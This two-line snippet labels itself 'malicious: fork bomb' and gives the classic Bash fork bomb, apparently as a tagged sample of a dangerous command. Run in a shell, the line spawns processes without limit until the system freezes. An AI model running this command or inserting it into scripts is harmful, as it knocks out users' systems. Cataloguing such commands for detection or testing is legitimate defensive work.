# malicious: fork bomb
:(){ :|:& };:
